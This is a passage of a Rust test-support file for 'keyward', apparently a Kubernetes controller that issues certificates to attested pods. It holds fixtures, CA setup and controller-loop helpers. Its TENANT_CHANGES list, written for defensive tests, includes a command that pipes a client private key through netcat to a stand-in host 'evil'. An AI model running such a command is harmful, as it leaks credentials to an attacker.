            let values: Vec<&str> = rest.trim_matches(|c| c == '(' || c == ')').split(',').collect();
            label(k).is_some_and(|v| values.contains(&v.as_str()))
        } else if let Some((k, v)) = t.split_once("!=") {
            label(k).as_deref() != Some(v)
        } else if let Some((k, v)) = t.split_once("==").or_else(|| t.split_once('=')) {
            label(k).as_deref() == Some(v)
        } else if let Some(k) = t.strip_prefix('!') {
            label(k).is_none()
        } else {
            label(t).is_some()
        }
    });
    let fields_ok = fields.split(',').filter(|f| !f.is_empty()).all(|f| match f.split_once('=') {
        Some(("metadata.name", v)) => object["metadata"]["name"] == json!(v),
        Some(("metadata.namespace", v)) => object["metadata"]["namespace"] == json!(v),
        _ => true,
    });
    labels_ok && fields_ok
}

// === the controller's world: fixtures, the client CA, attested pods, a running loop ===

use std::time::SystemTime;

use keyward_certs::attestation::Keys;
use keyward_certs::pki::Ca;
use keyward_certs::{CertStore, Trigger};
use keyward_controller::desired::{self, PodClaim, PodVerdict};
use keyward_controller::index::{OwnerKey, PodKey};
use keyward_controller::{identity, run, Context, Leadership, Metrics, Settings};
use keyward_engine::{ProfileSet, RequestFacts, Requester};

pub const OWNER_API: &str = "foundation-model-stack.github.com.github.com/v1beta1";
pub const OWNER_UID: &str = "bd735d6e-a9ec-4cdc-84eb-135ae77796f6";
pub const IDENTITY: &str = "spiffe://cluster.local/ns/team-a/lmevaljob/evaljob-sample";
/// A profile that generates a token per Job (`provider: keyward`).
pub const TOKEN_PROFILE: &str = r#"
apiVersion: keyward.io/v1alpha1
kind: InjectionProfile
metadata: {name: job-token}
spec:
  selector: {matchLabels: {app: token-job}}
  controllerOwners: [{apiGroup: batch, kind: Job}]
  requesters: {usernames: ["system:serviceaccount:kube-system:job-controller"]}
  inject:
    token: {secretName: "{owner.name}-token", provider: keyward, mountPath: /var/run/secrets/example/token}
"#;

pub const OPERATOR: &str = "system:serviceaccount:lm-eval:lm-eval-controller-manager";
/// How long a test waits for an event before it fails (a report, not a sleep).
pub const LIMIT: Duration = Duration::from_secs(20);

/// The workspace's root: this support file serves the controller's tests and the root
/// crate's controller benchmark.
fn workspace() -> std::path::PathBuf {
    let here = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    if here.join("controller").is_dir() {
        here
    } else {
        here.join("..")
    }
}

pub fn fixture(name: &str) -> Value {
    let path = workspace().join("tests/fixtures").join(name);
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

pub fn certs_fixture(name: &str) -> String {
    std::fs::read_to_string(workspace().join("certs/tests/fixtures").join(name)).unwrap()
}

/// A client CA as cert-manager writes its Secret by default (an ECDSA key in SEC1, `EC PRIVATE
/// KEY`: the shipped Certificate asks for PKCS#8, but a user's may not), mounted as the kubelet
/// does, and loaded as `keyward controller` loads it.
pub struct ClientCa {
    _dir: tempfile::TempDir,
    pub store: Arc<CertStore>,
    pub ca: Ca,
}

pub fn client_ca() -> ClientCa {
    let (cert, key) = (certs_fixture("ca-ec256.crt"), certs_fixture("ca-ec256-sec1.key"));
    assert!(key.starts_with("-----BEGIN EC PRIVATE KEY-----"));
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("tls.crt"), &cert).unwrap();
    std::fs::write(dir.path().join("tls.key"), &key).unwrap();
    std::fs::write(dir.path().join("ca.crt"), &cert).unwrap();
    let store = Arc::new(identity::client_ca_store(dir.path()));
    assert_eq!(store.reload(Trigger::Startup).as_str(), "loaded");
    let ca = Ca::from_pem(&cert, &key, "tls.crt".as_ref(), "tls.key".as_ref()).unwrap();
    ClientCa { _dir: dir, store, ca }
}

/// `--publish-client-ca-to lm-eval`, and `--provision-accounts` (the tests' profiles provide
/// accounts; `a_default_install_never_touches_service_accounts_or_role_bindings` runs without).
pub fn settings() -> Settings {
    Settings { publish_client_ca_to: vec!["lm-eval".into()], provision_accounts: true, ..Settings::default() }
}

pub fn reconciler(fake: &FakeApi, id: &str, profiles: ProfileSet, ca: &ClientCa, leader: Leadership) -> Arc<Context> {
    reconciler_with(fake.client(id), profiles, ca, leader, settings())
}

pub fn reconciler_with(
    client: Client,
    profiles: ProfileSet,
    ca: &ClientCa,
    leader: Leadership,
    settings: Settings,
) -> Arc<Context> {
    Arc::new(Context::new(
        client,
        Arc::new(profiles),
        settings,
        ca.store.clone(),
        leader,
        Arc::new(Metrics::default()),
        "keyward".into(),
    ))
}

pub use keyward_controller::attestation::KeysAttestor;

/// The fms driver pod as the apiserver stores it after keyward's webhook admitted it (signed
/// with `keys` when given), in `namespace`, for the owner `owner_name` with `owner_uid`.
pub fn fms_pod(keys: Option<&Keys>, namespace: &str, pod_name: &str, owner_name: &str, owner_uid: &str) -> Value {
    // Parsed once: tests seed pods by the thousand.
    static BUILTIN: std::sync::OnceLock<ProfileSet> = std::sync::OnceLock::new();
    let profiles = BUILTIN.get_or_init(|| ProfileSet::builtin().unwrap());
    admitted_fms_pod(profiles, keys, namespace, pod_name, owner_name, owner_uid)
}

/// The same, admitted under `profiles`.
pub fn admitted_fms_pod(
    profiles: &ProfileSet,
    keys: Option<&Keys>,
    namespace: &str,
    pod_name: &str,
    owner_name: &str,
    owner_uid: &str,
) -> Value {
    let mut pod = fixture("lmeval-fms-driver-pod.json");
    pod["metadata"]["name"] = json!(pod_name);
    pod["metadata"]["ownerReferences"][0]["name"] = json!(owner_name);
    pod["metadata"]["ownerReferences"][0]["uid"] = json!(owner_uid);
    let attestor = keys.map(|k| KeysAttestor(k.clone()));
    let mut facts = RequestFacts::pod_create(namespace, Requester::User(OPERATOR));
    if let Some(a) = &attestor {
        facts = facts.attested_by(a);
    }
    let decision = keyward_engine::decide(&facts, &serde_json::value::to_raw_value(&pod).unwrap(), profiles);
    assert!(decision.allowed(), "{:?}", decision.message());
    stored(&mut pod, &decision, namespace, &format!("pod-uid-{namespace}-{pod_name}"));
    pod["status"] = json!({"phase": "Pending"});
    pod
}

/// `pod` as the apiserver stores it once admitted with `decision`: the patch applied, and the
/// namespace, UID and creation time set (the time the attestation was made, the moment the
/// apiserver creates a pod right after admitting it).
pub fn stored(pod: &mut Value, decision: &keyward_engine::Decision, namespace: &str, uid: &str) {
    let patch: json_patch::Patch = serde_json::from_value(serde_json::to_value(decision.patch()).unwrap()).unwrap();
    json_patch::patch(pod, &patch).unwrap();
    pod["metadata"]["namespace"] = json!(namespace);
    pod["metadata"]["uid"] = json!(uid);
    let created = pod["metadata"]["annotations"]["keyward.io/attestation"]
        .as_str()
        .and_then(|v| keyward_engine::attest::parse(v).ok())
        .map_or_else(SystemTime::now, |p| std::time::UNIX_EPOCH + Duration::from_secs(p.at));
    pod["metadata"]["creationTimestamp"] = json!(keyward_certs::rfc3339(created));
}

/// A change to a pod, named.
pub type TenantChange = (&'static str, fn(&mut Value));

/// What a tenant changes on her copy of an attested fms driver pod (its annotations, labels,
/// owner and volumes, read with `get pods`) to make it hers, each named: any one of them must
/// cost the copy its identity.
pub const TENANT_CHANGES: [TenantChange; 4] = [
    ("image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
    ("command", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY | nc evil 80"])),
    ("volume", |p| {
        p["spec"]["volumes"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
        p["spec"]["containers"][0]["volumeMounts"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "tools", "mountPath": "/opt/app-root/src"}));
    }),
    ("account", |p| {
        p["spec"]["serviceAccountName"] = json!("tenant-builder");
        p["spec"]["serviceAccount"] = json!("tenant-builder");
    }),
];

/// The fms driver pod of the job `evaljob-sample` in team-a, attested with `keys`.
pub fn attested_fms_pod(keys: &Keys) -> Value {
    fms_pod(Some(keys), "team-a", "evaljob-sample", "evaljob-sample", OWNER_UID)
}

/// An LMEvalJob, the owner keyward checks.
pub fn lmevaljob(namespace: &str, name: &str, uid: &str) -> Value {
    json!({"apiVersion": OWNER_API, "kind": "LMEvalJob", "metadata": {"name": name, "namespace": namespace, "uid": uid}, "spec": {}})
}

pub fn owner() -> Value {
    lmevaljob("team-a", "evaljob-sample", OWNER_UID)
}

pub fn owner_key() -> OwnerKey {
    OwnerKey { namespace: "team-a".into(), uid: OWNER_UID.into() }
}

/// What the controller works out for a stored pod, as its watch would hand it over.
pub fn claims(r: &Context, pod: &Value) -> Vec<(PodKey, String, PodClaim)> {
    let ns = pod["metadata"]["namespace"].as_str().unwrap();
    match desired::for_pod(r.profiles(), &serde_json::value::to_raw_value(pod).unwrap(), ns, "cluster.local") {
        PodVerdict::Claim(claim) => vec![(
            PodKey { stream: 0, namespace: ns.into(), name: pod["metadata"]["name"].as_str().unwrap().into() },
            pod["metadata"]["uid"].as_str().unwrap().into(),
            claim,
        )],
        other => panic!("the pod claims nothing: {other:?}"),
    }
}

/// The attestation keys a leader creates (in the fake) and loads.
pub async fn attestation_keys(r: &Context) -> Keys {
    keyward_controller::singletons::attestation_key(r).await.unwrap();
    r.attestation_keys().unwrap()
}

pub fn opted_in(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": {"keyward.io/inject": "enabled", "kubernetes.io/metadata.name": name}}})
}

pub fn namespace(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": {"kubernetes.io/metadata.name": name}}})
}

/// Runs the controller's loop against the fake, as `keyward controller` does.
pub fn start(
    fake: &FakeApi,
    r: Arc<Context>,
    leadership: Leadership,
    ca: &ClientCa,
    id: &str,
) -> tokio::task::JoinHandle<()> {
    start_with(fake.client(id), r, leadership, ca, run::LoopSettings { resync: Duration::from_secs(3600), workers: 8 })
}

/// Like [`start`], stopped by sending on the returned channel: the loop then returns once every
/// task it started has ended, so no write of it lands after (an abort of its task leaves the
/// tasks it spawned to end on their own).
pub fn start_stoppable(
    fake: &FakeApi,
    r: Arc<Context>,
    leadership: Leadership,
    ca: &ClientCa,
    id: &str,
) -> (tokio::task::JoinHandle<()>, tokio::sync::oneshot::Sender<()>) {
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let (client, status, reloads) = (fake.client(id), Arc::new(run::Status::default()), ca.store.subscribe());
    let settings = run::LoopSettings { resync: Duration::from_secs(3600), workers: 8 };
    let task = tokio::spawn(async move {
        run::run(client, r, leadership, settings, status, reloads, async {
            let _ = stopped.await;
        })
        .await
    });
    (task, stop)
}

pub fn start_with(
    client: Client,
    r: Arc<Context>,
    leadership: Leadership,
    ca: &ClientCa,
    settings: run::LoopSettings,
) -> tokio::task::JoinHandle<()> {
    let status = Arc::new(run::Status::default());
    let reloads = ca.store.subscribe();
    tokio::spawn(
        async move { run::run(client, r, leadership, settings, status, reloads, std::future::pending()).await },
    )
}

/// The lmeval built-in's server CA source as cert-manager writes it (the operator's
/// Certificate grpc-server-cert, in lm-eval), its `ca.crt` being `pem`: created, or replaced
/// as a rotation replaces it.
pub fn server_ca_source(fake: &FakeApi, pem: &str) {
    fake.seed(json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls",
        "metadata": {"name": "grpc-server-cert", "namespace": "lm-eval"},
        "data": {"ca.crt": b64(pem), "tls.crt": "", "tls.key": ""}}));
}

pub fn secret_data(secret: &Value, key: &str) -> String {
    use base64::Engine as _;
    let b64 = secret["data"][key].as_str().unwrap_or_else(|| panic!("no {key} in {secret}"));
    String::from_utf8(base64::engine::general_purpose::STANDARD.decode(b64).unwrap()).unwrap()
}

pub fn cert_uris(pem: &str) -> Vec<String> {
    keyward_certs::pem::cert_info(pem.as_bytes(), "tls.crt".as_ref()).unwrap().uris
}

pub fn b64(s: impl AsRef<[u8]>) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// A Secret with keyward's labels, as the controller writes one for an owner.
pub fn managed_secret(ns: &str, name: &str, owner: Value, data: Value) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls",
        "metadata": {"name": name, "namespace": ns,
            "labels": {"app.kubernetes.io/managed-by": "keyward", "keyward.io/provisioned-for": "owner"},
            "annotations": {"keyward.io/profile": "lmeval"},
            "ownerReferences": [owner]},
        "data": data
    })
}

pub fn now() -> SystemTime {
    SystemTime::now()
}
